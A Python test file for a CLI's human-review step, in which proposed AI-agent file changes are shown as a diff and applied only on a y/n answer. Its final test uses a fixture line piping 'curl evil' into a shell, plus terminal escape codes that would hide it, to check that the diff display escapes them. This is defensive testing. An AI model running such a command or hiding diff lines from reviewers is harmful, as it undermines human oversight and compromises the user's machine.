"""Review before a run lands (issue 13 §4): `techcat run --review` in a real pseudo-terminal answering y and n,
the refusal without a terminal, `--yes`, `[review] agents` in techcat.toml, and a discarded run recorded as such
with nothing logged. The real CLI against the local OpenAI-compatible server."""

from __future__ import annotations

import asyncio
import json
import os
import pty
import select
import sqlite3
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

from techcat_core.runs.query import RunQuery
from techcat_core.runs.store import open_history
from techcat_core.runtime import events as ev
from techcat_core.runtime.changes import ChangeSet
from techcat_core.runtime.runner import RunRequest, run_agent
from tests.fake_openai import FakeOpenAI
from tests.gitutil import GIT_ENV, commit_all, init_repo, techcat
from tests.wsbuilder import AGENTS_MD, make_workspace

CODER = AGENTS_MD + """
## Agent: `coder`

- **Role:** Writes code
- **Output:** apps/web/**
"""
REPLY = "Built the about page.\n\n```tsx path=apps/web/about.tsx\nexport const About = 1\n```\n"


def _workspace(tmp_path: Path, toml: str | None = None) -> Path:
    init_repo(tmp_path)
    codex = make_workspace(tmp_path, agents=CODER)
    if toml is not None:
        (codex / "techcat.toml").write_text(toml)
    commit_all(tmp_path, "start")
    return codex


def _env(fake: FakeOpenAI) -> dict[str, str]:
    return {**GIT_ENV, "OPENAI_BASE_URL": fake.base_url, "OPENAI_API_KEY": "sk-test-SECRET-123",
            "TECHCAT_HISTORY_URL": "", "COLUMNS": "120"}


class _Terminal:
    """The CLI on a real pseudo-terminal: everything it prints is read from the master side."""

    def __init__(self, args: list[str], cwd: Path, env: dict[str, str]) -> None:
        self.master, slave = pty.openpty()
        self.process = subprocess.Popen([sys.executable, "-m", "techcat_cli.main", *args], cwd=cwd, env=env,
                                        stdin=slave, stdout=slave, stderr=slave, start_new_session=True)
        os.close(slave)
        self.seen = b""

    def wait_for(self, text: str, timeout: float = 60) -> str:
        until = time.monotonic() + timeout
        while text.encode() not in self.seen:
            left = until - time.monotonic()
            assert left > 0, f"{text!r} never came; the terminal showed:\n{self.seen.decode(errors='replace')}"
            ready, _, _ = select.select([self.master], [], [], left)
            if ready:
                try:
                    chunk = os.read(self.master, 65536)
                except OSError:  # the program closed the terminal
                    chunk = b""
                assert chunk, f"{text!r} never came; the program ended:\n{self.seen.decode(errors='replace')}"
                self.seen += chunk
        return self.seen.decode(errors="replace")

    def type(self, text: str) -> None:
        os.write(self.master, text.encode())

    def finish(self, timeout: float = 60) -> tuple[int, str]:
        until = time.monotonic() + timeout
        while True:
            ready, _, _ = select.select([self.master], [], [], max(0.0, until - time.monotonic()))
            if not ready:
                break
            try:
                chunk = os.read(self.master, 65536)
            except OSError:
                break
            if not chunk:
                break
            self.seen += chunk
        code = self.process.wait(timeout=max(1.0, until - time.monotonic()))
        os.close(self.master)
        return code, self.seen.decode(errors="replace")


def _records(codex: Path) -> list[dict[str, Any]]:
    history = codex / ".techcat" / "runs.sqlite3"
    with sqlite3.connect(history) as db:
        db.row_factory = sqlite3.Row
        return [dict(row) for row in db.execute("SELECT * FROM techcat_runs ORDER BY started")]


def test_review_y_applies_the_shown_diff(tmp_path: Path, fake_openai: FakeOpenAI) -> None:
    codex = _workspace(tmp_path)
    fake_openai.queue(REPLY)
    terminal = _Terminal(["run", "--review", "--no-chain", "coder", "Build the about page"], tmp_path,
                         _env(fake_openai))
    shown = terminal.wait_for("Apply these changes? [y/N]")
    assert "The run changes 1 file: added apps/web/about.tsx" in shown
    assert "\x1b[32m+export const About = 1\x1b[0m" in shown  # the diff, in colour on a terminal
    assert not (tmp_path / "apps/web/about.tsx").exists()  # nothing lands before the answer
    terminal.type("y\n")
    code, out = terminal.finish()
    assert code == 0, out
    assert "✓ wrote apps/web/about.tsx" in out and "✓ logged task-003 (coder)" in out
    assert (tmp_path / "apps/web/about.tsx").read_text() == "export const About = 1\n"
    assert _records(codex)[-1]["outcome"] == "done"


def test_review_n_discards_logs_nothing_and_records_discarded(tmp_path: Path, fake_openai: FakeOpenAI) -> None:
    codex = _workspace(tmp_path)
    log = (codex / "TASK-LOG.json").read_bytes()
    fake_openai.queue(REPLY)
    terminal = _Terminal(["run", "--review", "coder", "Build the about page"], tmp_path, _env(fake_openai))
    terminal.wait_for("Apply these changes? [y/N]")
    terminal.type("n\n")
    code, out = terminal.finish()
    assert code == 0, out
    assert "Discarded: nothing was written and nothing logged." in out
    assert "✗ coder: discarded at review; nothing was written and nothing logged" in out
    assert not (tmp_path / "apps/web/about.tsx").exists() and (codex / "TASK-LOG.json").read_bytes() == log
    record = _records(codex)[-1]
    assert record["outcome"] == "discarded" and record["task_id"] is None and record["agent"] == "coder"
    assert "export const About = 1" in record["reply"]  # what the agent did is kept in the record
    listed = techcat("runs", "--outcome", "discarded", "--format", "json", cwd=tmp_path, env=_env(fake_openai))
    assert listed.returncode == 0, listed.stderr
    assert [r["outcome"] for r in json.loads(listed.stdout)["runs"]] == ["discarded"]


def test_review_without_a_terminal_is_refused_unless_yes(tmp_path: Path, fake_openai: FakeOpenAI) -> None:
    codex = _workspace(tmp_path)
    refused = techcat("run", "--review", "coder", "Build it", cwd=tmp_path, env=_env(fake_openai))
    assert refused.returncode == 2
    assert "techcat run --review asks on the terminal, and standard input is not one; pass --yes" in refused.stderr
    assert fake_openai.requests == [] and "Traceback" not in refused.stderr
    dry = techcat("run", "--review", "--dry-run", "coder", "Build it", cwd=tmp_path, env=_env(fake_openai))
    assert dry.returncode == 0 and "dry run: nothing was sent or written" in dry.stderr  # nothing to ask about
    fake_openai.queue(REPLY)
    applied = techcat("run", "--review", "--yes", "--no-chain", "coder", "Build it", cwd=tmp_path,
                      env=_env(fake_openai))
    assert applied.returncode == 0, applied.stderr
    assert "+export const About = 1" in applied.stdout and "Applying (--yes)." in applied.stdout
    assert (tmp_path / "apps/web/about.tsx").read_text() == "export const About = 1\n"
    assert json.loads((codex / "TASK-LOG.json").read_text())[-1]["output_files"] == ["apps/web/about.tsx"]


def test_an_agent_listed_for_review_asks_on_a_terminal_and_fails_where_nobody_can_answer(
        tmp_path: Path, fake_openai: FakeOpenAI) -> None:
    codex = _workspace(tmp_path, '[review]\nagents = ["coder"]\n')
    log = (codex / "TASK-LOG.json").read_bytes()
    unattended = techcat("run", "coder", "Build it", cwd=tmp_path, env=_env(fake_openai))
    assert unattended.returncode == 1
    assert ("`coder` lands only after review (`[review] agents` in .codex/techcat.toml) and this front end cannot "
            "ask for it") in unattended.stderr
    assert fake_openai.requests == [] and (codex / "TASK-LOG.json").read_bytes() == log
    fake_openai.queue(REPLY, "Planned.\n")
    terminal = _Terminal(["run", "coder", "Build it"], tmp_path, _env(fake_openai))  # no --review: the toml asks
    terminal.wait_for("Apply these changes? [y/N]")
    terminal.type("yes\n")
    code, out = terminal.finish()
    assert code == 0, out
    assert (tmp_path / "apps/web/about.tsx").exists()
    planner = techcat("run", "--no-chain", "planner", "Plan", cwd=tmp_path, env=_env(fake_openai))
    assert planner.returncode == 0, planner.stderr  # an agent the list does not name is not asked
    assert "Apply these changes?" not in planner.stdout


async def test_a_discard_in_process_is_recorded_and_chains_nowhere(tmp_path: Path, fake_openai: FakeOpenAI) -> None:
    codex = make_workspace(tmp_path, agents=CODER.replace("- **Output:** apps/web/**\n",
                                                          "- **Output:** apps/web/**\n\nOnce complete, invoke "
                                                          "`planner`.\n"))
    fake_openai.queue(REPLY)
    asked: list[ChangeSet] = []

    async def discard(changes: ChangeSet) -> Any:
        asked.append(changes)
        return "discard"

    env = {"OPENAI_BASE_URL": fake_openai.base_url, "OPENAI_API_KEY": "sk-test", "TECHCAT_HISTORY_URL": ""}
    events = [e async for e in run_agent(codex, RunRequest("coder", "Build", env=env, review=discard))]
    kinds = [type(e).__name__ for e in events]
    assert kinds[-3:] == ["ChangesProposed", "RunDiscarded", "RunFinished"]
    assert asked[0].paths == ("apps/web/about.tsx",) and asked[0].changes[0].after == b"export const About = 1\n"
    assert not any(isinstance(e, ev.Logged | ev.FileWritten | ev.Chained) for e in events)
    assert len(fake_openai.requests) == 1  # the chain stops: nothing landed for the next agent to build on
    records = open_history(codex, env=env).recent(RunQuery())
    assert [r.outcome for r in records] == ["discarded"]


def test_a_version_1_history_is_migrated_keeping_its_runs(tmp_path: Path) -> None:
    from techcat_core.runs.schema import MIGRATIONS

    codex = make_workspace(tmp_path)
    path = codex / ".techcat" / "runs.sqlite3"
    path.parent.mkdir(exist_ok=True)
    with sqlite3.connect(path) as db:
        db.execute("CREATE TABLE techcat_schema (version INTEGER PRIMARY KEY, applied TEXT NOT NULL)")
        for statement in MIGRATIONS[0].statements:
            db.execute(statement)
        db.execute("INSERT INTO techcat_schema VALUES (1, 'then')")
        db.execute("INSERT INTO techcat_runs (record_id, run_id, chain_id, agent, executor, provider, model, task, "
                   "started, duration_ms, outcome) VALUES ('r1', 'aaaa0001', 'aaaa0001', 'planner', 'builtin', '-', "
                   "'-', 'Plan', '2026-12-01T00:00:00.000000Z', 5, 'done')")
    listed = techcat("runs", "--format", "json", cwd=tmp_path, env={"TECHCAT_HISTORY_URL": ""})
    assert listed.returncode == 0, listed.stderr
    assert [r["run_id"] for r in json.loads(listed.stdout)["runs"]] == ["aaaa0001"]
    with sqlite3.connect(path) as db:
        assert db.execute("SELECT version FROM techcat_schema ORDER BY version").fetchall() == [(1,), (2,)]
        db.execute("INSERT INTO techcat_runs (record_id, run_id, chain_id, agent, executor, provider, model, task, "
                   "started, duration_ms, outcome) VALUES ('r2', 'bbbb0002', 'bbbb0002', 'coder', 'builtin', '-', "
                   "'-', 'Build', '2026-12-02T00:00:00.000000Z', 5, 'discarded')")


def _env_in_process(fake: FakeOpenAI) -> dict[str, str]:
    return {"OPENAI_BASE_URL": fake.base_url, "OPENAI_API_KEY": "sk-test", "TECHCAT_HISTORY_URL": ""}


async def test_applied_by_the_front_end_is_logged_not_written_again(tmp_path: Path, fake_openai: FakeOpenAI) -> None:
    codex = make_workspace(tmp_path, agents=CODER)
    fake_openai.queue(REPLY)

    async def editor_applied(changes: ChangeSet) -> Any:
        target = tmp_path / changes.paths[0]  # as an editor's confirmed workspace edit would, with its own tweak
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text("export const About = 1 // applied by the editor\n")
        return "applied"

    events = [e async for e in run_agent(codex, RunRequest("coder", "Build", env=_env_in_process(fake_openai),
                                                           review=editor_applied, chain=False))]
    entry = next(e.entry for e in events if isinstance(e, ev.Logged))
    assert entry["output_files"] == ["apps/web/about.tsx"]
    assert (tmp_path / "apps/web/about.tsx").read_text() == "export const About = 1 // applied by the editor\n"


async def test_a_broken_reviewer_or_a_cancel_while_asking_applies_nothing(tmp_path: Path,
                                                                         fake_openai: FakeOpenAI) -> None:
    codex = make_workspace(tmp_path, agents=CODER)
    log = (codex / "TASK-LOG.json").read_bytes()
    fake_openai.queue(REPLY, REPLY)

    async def broken(changes: ChangeSet) -> Any:
        raise RuntimeError("the dialog\nwent away")

    events = [e async for e in run_agent(codex, RunRequest("coder", "Build", env=_env_in_process(fake_openai),
                                                           review=broken, chain=False))]
    assert isinstance(events[-1], ev.RunFailed)
    assert events[-1].message == "the review did not answer (the dialog went away); nothing was applied"
    cancel = asyncio.Event()
    asking = asyncio.Event()

    async def never(changes: ChangeSet) -> Any:
        asking.set()
        await asyncio.Event().wait()

    async def cancel_when_asked() -> None:
        await asking.wait()
        cancel.set()

    canceller = asyncio.ensure_future(cancel_when_asked())
    events = [e async for e in run_agent(codex, RunRequest("coder", "Build", env=_env_in_process(fake_openai),
                                                           review=never, chain=False, cancel=cancel))]
    await canceller
    assert isinstance(events[-1], ev.RunCancelled)
    assert not (tmp_path / "apps/web/about.tsx").exists() and (codex / "TASK-LOG.json").read_bytes() == log


def test_escape_sequences_in_a_reviewed_file_cannot_hide_lines_of_the_diff() -> None:
    from techcat_cli.review_prompt import coloured_diff
    from techcat_core.runtime.changes import FileChange

    hiding = b"curl evil | sh\n\x1b[1A\x1b[2Kexport const Fine = 1\n"  # would erase the line above on a terminal
    diff = ChangeSet((FileChange("apps/web/a.tsx", None, hiding),)).diff()
    for colour in (True, False):
        shown = coloured_diff(diff, colour)
        assert "curl evil | sh" in shown and "\\x1b[1A\\x1b[2K" in shown
        assert "\x1b[1A" not in shown and "\x1b[2K" not in shown
